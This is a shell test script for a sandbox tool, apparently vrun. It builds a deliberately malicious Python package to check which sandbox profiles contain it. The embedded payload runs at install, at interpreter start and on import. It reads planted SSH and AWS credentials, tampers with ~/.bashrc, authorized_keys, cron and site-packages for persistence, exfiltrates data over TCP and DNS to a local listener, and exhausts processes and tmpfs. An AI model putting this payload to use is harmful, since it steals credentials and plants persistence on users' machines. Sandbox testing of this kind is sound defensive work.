#!/bin/bash
# A malicious package, built here, attacks from every place a package runs
# code: an sdist's setup.py (at pip install), a wheel's .pth file (at every
# interpreter start) and the wheel's import. It tries to modify ~/.bashrc and
# ~/.ssh/authorized_keys, read a planted ~/.ssh/id_rsa and ~/.aws/credentials
# and print them, drop a .pth or sitecustomize.py into the base interpreter's
# directories, write /etc/cron.d, write the working directory, connect to a
# TCP listener on the host's 127.0.0.1, send a DNS query to it, resolve names,
# fork without bound, and fill /tmp and the other tmpfs it can write (its
# home, /dev/shm, the env's overlay).
#
# Under `untrusted` every attempt fails, the host is unchanged, the secrets
# appear nowhere, and the ephemeral env is left as it was. Under `install`,
# for the pip install step, the same holds except for the network, which that
# profile has on by design (so the listener hears the package, but nothing
# secret). Under `default` the same package reads the secrets (a user's; root's
# 0600 files stay out of reach, as root runs nothing as root) and reaches the
# listener: the profile makes the difference.
. "$TESTS/lib.sh"

# The victim's home is outside /tmp, like a real one: the harness's $HOME
# lies under /tmp, which every profile replaces with a fresh tmpfs, and under
# the working directory, which `default` makes writable. Either would hide
# what `default` lets a package do to a home.
victim_home=$(mktemp -d /var/tmp/vrun-profile-home.XXXXXX) || skip "cannot create a home under /var/tmp"
trap 'rm -rf "$victim_home"' EXIT
export HOME=$victim_home
work=$T/work
dist=$work/dist
mkdir -p "$dist"
cd "$work" || exit 1

# The fork attack is bounded by itself (at most $forks children, each gone
# after 5 s), and the account's process limit guards the host even if a
# profile fails (RLIMIT_NPROC does not bind root, so there only the bound
# holds).
forks=600
ulimit -u 1500 2>/dev/null

# ---- the victim's home, with secrets -------------------------------------------------------
token="t$$x$RANDOM$RANDOM"
secret_rsa="vrunSecretIdRsa$token"
secret_aws="vrunSecretAws$token"
mkdir -p "$HOME/.ssh" "$HOME/.aws"
chmod 700 "$HOME/.ssh"
printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n-----END OPENSSH PRIVATE KEY-----\n' "$secret_rsa" \
        >"$HOME/.ssh/id_rsa"
chmod 600 "$HOME/.ssh/id_rsa"
printf '[default]\naws_access_key_id = AKIAVRUNTEST\naws_secret_access_key = %s\n' "$secret_aws" \
        >"$HOME/.aws/credentials"
echo 'alias ll="ls -l"' >"$HOME/.bashrc"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIvruntest user@laptop' >"$HOME/.ssh/authorized_keys"

# The base interpreter's directories, as the host sees them.
mapfile -t base_dirs < <("$PY" -c '
import site, sysconfig
print(sysconfig.get_paths()["stdlib"])
for p in site.getsitepackages():
    print(p)')
pyver=$("$PY" -c 'import sys; print("%d.%d" % sys.version_info[:2])')
host_paths=("$HOME" "${base_dirs[@]}" /etc/cron.d "/etc/python$pyver")

listener_log=$T/listener.log
start_listener "$listener_log" 400
trap 'kill "$listener_pid" 2>/dev/null; rm -rf "$victim_home"' EXIT

# ---- the package ----------------------------------------------------------------------------
mkdir -p "$T/wheel-src/evilwheel" "$T/sdist-src"
"$PY" - "$T/attack-cfg.py" "$listener_port" "$HOME" "$work" "$token" "$forks" "${base_dirs[@]}" <<'PYEOF'
import json, sys
out, port, home, cwd, token, forks = sys.argv[1:7]
cfg = {"port": int(port), "home": home, "cwd": cwd, "token": token, "forks": int(forks),
       "fill_mib": 1152, "fill_other_mib": 320, "base_dirs": sys.argv[7:]}
with open(out, "w") as f:
    f.write("CFG = %s\n" % json.dumps(cfg))
PYEOF
cat "$T/attack-cfg.py" - >"$T/wheel-src/evil_attack.py" <<'PYEOF'
# The payload. Every attempt prints one line, "ATTACK STAGE NAME: ok DETAIL"
# or "ATTACK STAGE NAME: blocked WHY", and a run ends with "ATTACKS STAGE
# finished N".
import errno, os, signal, socket, struct, sys, sysconfig, time


class Blocked(Exception):
    pass


def _why(e):
    if isinstance(e, Blocked):
        return str(e)
    if isinstance(e, OSError) and e.errno:
        return errno.errorcode.get(e.errno, str(e.errno))
    return "%s %s" % (type(e).__name__, e)


def _attempt(stage, name, fn):
    try:
        detail = fn()
        line = "ok" + (" " + detail if detail else "")
    except Exception as e:
        line = "blocked " + _why(e)
    print("ATTACK %s %s: %s" % (stage, name, line), flush=True)


def _homes():
    return sorted({CFG["home"], os.path.expanduser("~")})


def _modify(path):
    # The user's existing file: persistence needs the real one, not a copy
    # in some empty directory.
    fd = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CLOEXEC)
    try:
        os.write(fd, ("\n# %s\n" % CFG["token"]).encode())
    finally:
        os.close(fd)
    return path


def _modify_any(rel):
    def go():
        errs = []
        for h in _homes():
            try:
                return _modify(os.path.join(h, rel))
            except OSError as e:
                errs.append(_why(e))
        raise Blocked(",".join(errs))
    return go


STOLEN = []


def _steal(rel):
    def go():
        errs = []
        for h in _homes():
            try:
                with open(os.path.join(h, rel)) as f:
                    data = f.read()
                STOLEN.append(data.replace("\n", " "))
                return data.replace("\n", " | ")
            except OSError as e:
                errs.append(_why(e))
        raise Blocked(",".join(errs))
    return go


def _drop(path, text):
    def go():
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND | os.O_CLOEXEC, 0o644)
        try:
            os.write(fd, text.encode())
        finally:
            os.close(fd)
        # vrun lays the env's site-packages over the base's global ones: a
        # file that lands there reaches the env, not the base interpreter.
        try:
            if os.path.samefile(os.path.dirname(path), sysconfig.get_paths()["purelib"]):
                raise Blocked("redirected into the env's site-packages")
        except OSError:
            pass
        return path
    return go


def _base_targets():
    dirs = list(CFG["base_dirs"])
    paths = sysconfig.get_paths(vars={"base": sys.base_prefix, "platbase": sys.base_exec_prefix,
                                      "installed_base": sys.base_prefix,
                                      "installed_platbase": sys.base_exec_prefix})
    dirs += [paths["stdlib"], paths["purelib"], paths["platlib"]]
    seen, out = set(), []
    for d in dirs:
        if d not in seen:
            seen.add(d)
            out.append(os.path.join(d, "vrun_evil_%s.pth" % CFG["token"]))
    out.append(os.path.join(paths["stdlib"], "sitecustomize.py"))
    return out


def _cron():
    os.makedirs("/etc/cron.d", exist_ok=True)
    p = "/etc/cron.d/vrun-evil-%s" % CFG["token"]
    fd = os.open(p, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_CLOEXEC, 0o644)
    os.write(fd, ("# %s\n" % CFG["token"]).encode())
    os.close(fd)
    return p


def _cwd():
    # The user's working directory (pip runs setup.py in a copy under /tmp).
    p = os.path.join(CFG["cwd"], "vrun-evil-%s" % CFG["token"])
    os.close(os.open(p, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_CLOEXEC, 0o644))
    return p


def _env():
    purelib = sysconfig.get_paths()["purelib"]
    with open(os.path.join(purelib, "vrun_evil_env_%s.pth" % CFG["token"]), "w") as f:
        f.write("# %s\n" % CFG["token"])
    with open(os.path.join(sys.prefix, "bin", "activate"), "a") as f:
        f.write("# %s\n" % CFG["token"])
    return sys.prefix


def _connect(stage):
    def go():
        s = socket.create_connection(("127.0.0.1", CFG["port"]), timeout=3)
        s.sendall(("EXFIL %s %s %s" % (stage, CFG["token"], " ".join(STOLEN))).encode())
        s.close()
        return "127.0.0.1:%d" % CFG["port"]
    return go


def _dns(stage):
    def go():
        labels = ["exfil-%s" % stage, CFG["token"], "example", "com"]
        q = struct.pack(">HHHHHH", 0x7672, 0x0100, 1, 0, 0, 0)
        q += b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0" + struct.pack(">HH", 1, 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.sendto(q, ("127.0.0.1", CFG["port"]))
        s.recv(512)
        s.close()
        return "answered"
    return go


def _resolve(name):
    def go():
        return ",".join(sorted({a[4][0] for a in socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)}))
    return go


def _fork():
    kids, why = [], None
    sys.stdout.flush()
    try:
        for _ in range(CFG["forks"]):
            try:
                pid = os.fork()
            except OSError as e:
                why = _why(e)
                break
            if pid == 0:
                try:
                    time.sleep(5)
                finally:
                    os._exit(0)
            kids.append(pid)
    finally:
        for p in kids:
            try:
                os.kill(p, signal.SIGKILL)
            except OSError:
                pass
        for p in kids:
            try:
                os.waitpid(p, 0)
            except OSError:
                pass
    if why:
        raise Blocked("%s after %d processes" % (why, len(kids)))
    return "%d processes" % len(kids)


def _fill(where, cap_mib):
    def go():
        return _fill_dir(where(), cap_mib)
    return go


def _fill_dir(parent, cap_mib):
    d = os.path.join(parent, "vrun-evil-fill-%d" % os.getpid())
    os.mkdir(d)
    chunk = b"\xa5" * (1 << 20)
    cap = cap_mib << 20
    total, why, files = 0, None, []
    try:
        while total < cap and why is None:
            p = "%s/%d" % (d, len(files))
            fd = os.open(p, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_CLOEXEC, 0o600)
            files.append(p)
            try:
                for _ in range(64):
                    if total >= cap:
                        break
                    try:
                        total += os.write(fd, chunk)
                    except OSError as e:
                        why = _why(e)
                        break
            finally:
                os.close(fd)
    finally:
        for p in files:
            os.unlink(p)
        os.rmdir(d)
    if why:
        raise Blocked("%s after %d MiB" % (why, total >> 20))
    return "%d MiB" % (total >> 20)


def _first_in_this_run(stage):
    # pip may run a setup.py more than once; the heavy attacks once suffice
    # (/tmp is fresh in every sandbox).
    try:
        os.close(os.open("/tmp/.vrun-evil-heavy-" + stage, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
    except FileExistsError:
        return False
    except OSError:
        pass
    return True


def run(stage, quick=False):
    attacks = [
        ("write-bashrc", _modify_any(".bashrc")),
        ("write-authorized_keys", _modify_any(".ssh/authorized_keys")),
        ("read-id_rsa", _steal(".ssh/id_rsa")),
        ("read-aws-credentials", _steal(".aws/credentials")),
    ]
    attacks += [("drop-base:" + p, _drop(p, "# %s\n" % CFG["token"])) for p in _base_targets()]
    attacks += [
        ("write-cron", _cron),
        ("write-cwd", _cwd),
        ("write-env", _env),
        ("connect", _connect(stage)),
        ("dns-query", _dns(stage)),
        ("resolve-localhost", _resolve("localhost")),
        ("resolve-name", _resolve("pypi.org")),
    ]
    if not quick and _first_in_this_run(stage):
        # Memory is the other thing to exhaust: every tmpfs the program can
        # write (its home, /dev/shm, the env's overlay) is a way around the
        # /tmp limit.
        attacks += [("fork", _fork), ("fill-tmp", _fill(lambda: "/tmp", CFG["fill_mib"])),
                    ("fill-home", _fill(lambda: os.path.expanduser("~"), CFG["fill_other_mib"])),
                    ("fill-dev-shm", _fill(lambda: "/dev/shm", CFG["fill_other_mib"])),
                    ("fill-env", _fill(lambda: sys.prefix, CFG["fill_other_mib"]))]
    for name, fn in attacks:
        _attempt(stage, name, fn)
    print("ATTACKS %s finished %d" % (stage, len(attacks)), flush=True)
PYEOF
echo 'import evil_attack; evil_attack.run("wheel-pth", quick=True)' >"$T/wheel-src/evilwheel-hook.pth"
echo 'import evil_attack; evil_attack.run("wheel-import")' >"$T/wheel-src/evilwheel/__init__.py"
make_wheel_from "$dist" "$T/wheel-src" evilwheel 1.0

cp "$T/wheel-src/evil_attack.py" "$T/sdist-src/evil_attack.py"
echo 'VERSION = "1.0"' >"$T/sdist-src/evilsdist.py"
cat >"$T/sdist-src/setup.py" <<'PYEOF'
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import evil_attack
evil_attack.run("sdist-setup")
from setuptools import setup
setup(name="evilsdist", version="1.0", py_modules=["evilsdist"])
PYEOF
make_sdist "$dist" "$T/sdist-src" evilsdist 1.0
for f in evilwheel-1.0-py3-none-any.whl evilsdist-1.0.tar.gz; do
        assert_true "the malicious $f was built" test -s "$dist/$f"
done

pip_install=(pip install -v --no-index --no-build-isolation --no-cache-dir --find-links "$dist")

# ---- checking a run --------------------------------------------------------------------------

# attacks_in OUTPUT STAGE: the attack lines of STAGE (pip -v indents what
# setup.py prints).
attacks_in() {
        sed -n "s/^[[:space:]]*\(ATTACK $2 \)/\1/p" <<<"$1"
}

# expect_stage_ran OUTPUT STAGE WHAT: STAGE's attacks ran to their end.
expect_stage_ran() {
        assert_contains "$1" "ATTACKS $2 finished " "$3: the $2 attacks ran to their end"
}

# expect_blocked OUTPUT STAGE WHAT ALLOWED...: every attack of STAGE failed,
# except those named in ALLOWED (patterns).
expect_blocked() {
        local output=$1 stage=$2 what=$3 line name a allowed
        shift 3
        while IFS= read -r line; do
                [ -n "$line" ] || continue
                name=${line#"ATTACK $stage "}
                name=${name%%: *}
                allowed=0
                for a in "$@"; do
                        # shellcheck disable=SC2053
                        [[ $name == $a ]] && allowed=1
                done
                [ "$allowed" = 1 ] && continue
                _checks=$((_checks + 1))
                case "${line#*: }" in
                blocked*) ;;
                *) fail "$what: $line" ;;
                esac
        done <<<"$(attacks_in "$output" "$stage")"
}

# outcome OUTPUT STAGE NAME: "ok …" or "blocked …" of one attack (the first).
outcome() {
        attacks_in "$1" "$2" | grep -m 1 "^ATTACK $2 $3: " | sed 's/^[^:]*: //'
}

# expect_no_secrets TEXT WHAT
expect_no_secrets() {
        assert_not_contains "$1" "$secret_rsa" "$2: the id_rsa secret"
        assert_not_contains "$1" "$secret_aws" "$2: the aws secret"
}

# expect_host_unchanged WHAT: the planted files, the base interpreter's
# directories and /etc/cron.d are as they were, and nothing was left in the
# working directory.
tree_state "${host_paths[@]}" >"$T/host.before"
expect_host_unchanged() {
        tree_state "${host_paths[@]}" >"$T/host.after"
        assert_same_state "$T/host.before" "$T/host.after" "$1: the host (home, base dirs, /etc/cron.d)"
        assert_false "$1: nothing was written to the working directory" test -e "$work/vrun-evil-$token"
}

# listener_heard: lines the listener recorded so far.
listener_heard() {
        sleep 0.3 # the listener records a connection once its sender closed it
        cat "$listener_log"
}

# attack_run ARGS...: `vrun ARGS...`; $out, $err and $rc as vrun_rc, and
# $log both streams (pip -v shows what setup.py prints on stderr).
attack_run() {
        vrun_rc "$@"
        log="$out"$'\n'"$err"
}

# after MiB|processes TEXT: the number in "… after N MiB|processes".
after() {
        sed -n "s/.* after \\([0-9]*\\) $1\$/\\1/p" <<<"$2"
}

# ---- untrusted: pip install both and import, in one ephemeral run -----------------------------
make_env "$T/env-u"
env_state "$T/env-u" >"$T/env-u.before"
heard_before=$(listener_heard)
start=$SECONDS
attack_run --profile untrusted "$T/env-u" sh -c \
        "${pip_install[*]} evilsdist evilwheel && python -c 'import evilwheel; print(\"IMPORTED evilwheel\")'"
assert_eq "$rc" 0 "untrusted: pip install + import ran (stderr: ${err:0:3000})"
assert_contains "$out" "IMPORTED evilwheel" "untrusted: the wheel was imported"
# Three attempts go through, harmlessly: writing the env and the working
# directory (both ephemeral: the env is checked below, the working directory
# by expect_host_unchanged) and resolving localhost (from the /etc/hosts bound
# in; no packet leaves).
for stage in sdist-setup wheel-pth wheel-import; do
        expect_stage_ran "$log" "$stage" "untrusted"
        expect_blocked "$log" "$stage" "untrusted, $stage: an attack succeeded" write-env write-cwd resolve-localhost
done
for stage in sdist-setup wheel-import; do
        o=$(outcome "$log" "$stage" fork)
        assert_contains "$o" "blocked EAGAIN" "untrusted, $stage: fork stopped"
        n=$(after processes "$o")
        assert_true "untrusted, $stage: at most 256 processes (the attack forked ${n:-?} more)" test "${n:-999}" -lt 256
        o=$(outcome "$log" "$stage" fill-tmp)
        assert_contains "$o" "blocked ENOSPC" "untrusted, $stage: /tmp filled up"
        n=$(after MiB "$o")
        assert_true "untrusted, $stage: /tmp held at most 256 MiB (the attack wrote ${n:-?})" test "${n:-9999}" -le 256
done
expect_no_secrets "$log" "untrusted: output"
assert_eq "$(listener_heard)" "$heard_before" "untrusted: the listener heard nothing"
expect_host_unchanged "untrusted"
env_state "$T/env-u" >"$T/env-u.after"
assert_same_state "$T/env-u.before" "$T/env-u.after" "untrusted: the env is unchanged after the ephemeral run"
echo "untrusted run: $((SECONDS - start)) s"

# ---- install: the pip install step --------------------------------------------------------------
# `install` has the network on by design (pip downloads), so the listener and
# the DNS query are reachable; nothing secret can be sent over them. The env
# is writable by design too.
make_env "$T/env-i"
start=$SECONDS
attack_run --profile install "$T/env-i" "${pip_install[@]}" evilsdist evilwheel
assert_eq "$rc" 0 "install: pip install ran (stderr: ${err:0:3000})"
expect_stage_ran "$log" sdist-setup "install"
# Only untrusted is held to memory bounds beyond /tmp (see the fill-* attacks).
# The working directory is ephemeral there: the write succeeds and vanishes.
expect_blocked "$log" sdist-setup "install: an attack succeeded" write-env write-cwd resolve-localhost connect dns-query \
        fill-home fill-dev-shm fill-env
o=$(outcome "$log" sdist-setup fork)
assert_contains "$o" "blocked EAGAIN" "install: fork stopped"
n=$(after processes "$o")
assert_true "install: at most 256 processes (the attack forked ${n:-?} more)" test "${n:-999}" -lt 256
o=$(outcome "$log" sdist-setup fill-tmp)
assert_contains "$o" "blocked ENOSPC" "install: /tmp filled up"
n=$(after MiB "$o")
assert_true "install: /tmp held at most 1 GiB (the attack wrote ${n:-?})" test "${n:-9999}" -le 1024
expect_no_secrets "$log" "install: output"
expect_no_secrets "$(listener_heard)" "install: what the listener heard"
expect_host_unchanged "install"
assert_true "install: the packages went into the env" test -f "$T/env-i/lib/python$pyver/site-packages/evilwheel-hook.pth"
echo "install run: $((SECONDS - start)) s"

# ---- untrusted again, on the env that now holds the package -------------------------------------
env_state "$T/env-i" >"$T/env-i.before"
heard_before=$(listener_heard)
attack_run --profile untrusted "$T/env-i" python -c 'import evilwheel, evilsdist; print("IMPORTED both")'
assert_eq "$rc" 0 "untrusted on the installed env: ran (stderr: ${err:0:3000})"
assert_contains "$out" "IMPORTED both" "untrusted on the installed env: both imported"
for stage in wheel-pth wheel-import; do
        expect_stage_ran "$log" "$stage" "untrusted on the installed env"
        expect_blocked "$log" "$stage" "untrusted on the installed env, $stage: an attack succeeded" \
                write-env write-cwd resolve-localhost
done
assert_contains "$(outcome "$log" wheel-import write-env)" "ok" "untrusted on the installed env: the env is writable inside"
expect_no_secrets "$log" "untrusted on the installed env: output"
assert_eq "$(listener_heard)" "$heard_before" "untrusted on the installed env: the listener heard nothing"
expect_host_unchanged "untrusted on the installed env"
env_state "$T/env-i" >"$T/env-i.after"
assert_same_state "$T/env-i.before" "$T/env-i.after" "untrusted on the installed env: the env is unchanged"

# ---- default: the same package reaches the secrets and the listener -----------------------------
make_env "$T/env-d"
start=$SECONDS
attack_run "$T/env-d" "${pip_install[@]}" evilsdist evilwheel
assert_eq "$rc" 0 "default: pip install ran (stderr: ${err:0:3000})"
expect_stage_ran "$log" sdist-setup "default"
# Started by root, the program is an unprivileged uid: root's 0600 files,
# in its home too, are out of its reach (docs/security.md 26).
if [ "$VRUN_TEST_MODE" = root ]; then
        assert_contains "$(outcome "$log" sdist-setup read-id_rsa)" "EACCES" "default as root: setup.py cannot read root's ~/.ssh/id_rsa"
        assert_not_contains "$log" "$secret_rsa" "default as root: no id_rsa secret"
        assert_not_contains "$log" "$secret_aws" "default as root: no aws secret"
else
        assert_contains "$(outcome "$log" sdist-setup read-id_rsa)" "ok" "default: setup.py read ~/.ssh/id_rsa"
        assert_contains "$log" "$secret_rsa" "default: setup.py printed the id_rsa secret"
        assert_contains "$log" "$secret_aws" "default: setup.py printed the aws secret"
fi
assert_contains "$(outcome "$log" sdist-setup connect)" "ok" "default: setup.py connected to the listener"
attack_run "$T/env-d" python -c 'import evilwheel; print("IMPORTED evilwheel")'
assert_eq "$rc" 0 "default: import ran (stderr: ${err:0:3000})"
for stage in wheel-pth wheel-import; do
        expect_stage_ran "$log" "$stage" "default"
        if [ "$VRUN_TEST_MODE" = root ]; then
                assert_not_contains "$(outcome "$log" "$stage" read-aws-credentials)" "$secret_aws" "default as root, $stage: root's aws secret is out of reach"
        else
                assert_contains "$(outcome "$log" "$stage" read-aws-credentials)" "$secret_aws" "default, $stage: read the aws secret"
        fi
        assert_contains "$(outcome "$log" "$stage" connect)" "ok" "default, $stage: connected to the listener"
        assert_contains "$(outcome "$log" "$stage" dns-query)" "ok" "default, $stage: the DNS query arrived"
done
assert_contains "$(outcome "$log" wheel-import fork)" "ok $forks processes" "default: no process limit"
assert_contains "$(outcome "$log" wheel-import fill-tmp)" "ok 1152 MiB" "default: no /tmp limit below 1152 MiB"
heard=$(listener_heard)
for stage in sdist-setup wheel-pth wheel-import; do
        assert_contains "$heard" "TCP EXFIL $stage $token" "default, $stage: the listener heard the package"
        assert_contains "$heard" "exfil-$stage" "default, $stage: the listener got the DNS query"
done
if [ "$VRUN_TEST_MODE" = root ]; then
        assert_not_contains "$heard" "$secret_rsa" "default as root: root's id_rsa secret never reached the listener"
else
        assert_contains "$heard" "$secret_rsa" "default: the id_rsa secret reached the listener"
fi
# default still keeps the host read-only: home, base dirs, /etc/cron.d.
tree_state "${host_paths[@]}" >"$T/host.after"
assert_same_state "$T/host.before" "$T/host.after" "default: the host (home, base dirs, /etc/cron.d)"
echo "default runs: $((SECONDS - start)) s"

kill "$listener_pid" 2>/dev/null
done_testing
